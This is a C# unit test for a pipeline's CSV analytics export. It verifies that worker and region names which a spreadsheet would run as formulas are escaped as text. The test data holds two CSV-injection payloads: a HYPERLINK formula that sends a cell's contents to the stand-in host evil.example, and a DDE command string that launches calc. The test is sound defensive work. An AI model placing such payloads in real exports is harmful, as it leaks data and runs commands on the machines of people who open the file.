using System.Net.Http.Json;
using System.Text.Json;
using CqrsInference.Commands.Jobs;
using CqrsInference.Tests.Fixtures;
using CqrsInference.Tests.Infrastructure;

namespace CqrsInference.Tests.Analytics;

/// <summary>
/// CSV exports opened in a spreadsheet: a name that a spreadsheet would run as a formula reaches the
/// file as text. The names come from processors' own settings (worker id, region), recorded as events.
/// </summary>
public sealed class CsvExportTests(PipelineWithPricesAndNoProcessor pipeline) : IClassFixture<PipelineWithPricesAndNoProcessor>
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private static readonly DateTimeOffset Hour = new(2026, 1, 3, 10, 0, 0, TimeSpan.Zero);

    [Fact]
    public async Task Text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_numbers_stay_numbers()
    {
        await using (var session = pipeline.Store.LightweightSession())
        {
            session.Events.StartStream(EventNames.ProcessorStreamId(Formula),
                new V1.ProcessorOnline(Formula, Command, "h100", 2, ["synthetic"], Hour),
                new V1.ProcessorHeartbeat(Formula, Command, "h100", 2, Hour.AddMinutes(10), 600, 300),
                new V1.ProcessorHeartbeat(Formula, Command, "h100", 2, Hour.AddMinutes(20), 600, 900));
            await session.SaveChangesAsync();
        }

        var range = $"from={Iso(Hour)}&to={Iso(Hour.AddHours(1))}";
        await Retry.Until("the utilization roll-up to catch up",
            async () => await pipeline.Operator.GetFromJsonAsync<JsonElement>($"/v1/analytics/utilization?{range}&groupBy=worker"),
            rows => rows.EnumerateArray().Any(r => r.GetProperty("key").GetString() == Formula && r.GetProperty("onlineSeconds").GetDouble() == 1200));

        var byWorker = await CsvAsync($"/v1/analytics/utilization?{range}&groupBy=worker");
        var byRegion = await CsvAsync($"/v1/analytics/utilization?{range}&groupBy=region");

        byWorker.ShouldBe(["bucket,key,onlineSeconds,slotSeconds,busySeconds,busyPercent", "2026-01-03T10:00:00Z,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",1200,2400,1200,50"]);
        byRegion[1].ShouldBe("2026-01-03T10:00:00Z,\"'+cmd|' /C calc'!A0\",1200,2400,1200,50");
    }

    private async Task<string[]> CsvAsync(string path)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Accept.ParseAdd("text/csv");
        using var response = await pipeline.Operator.SendAsync(request);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        return (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
    }

    private static string Iso(DateTimeOffset time) => Uri.EscapeDataString(time.ToString("O", System.Globalization.CultureInfo.InvariantCulture));
}
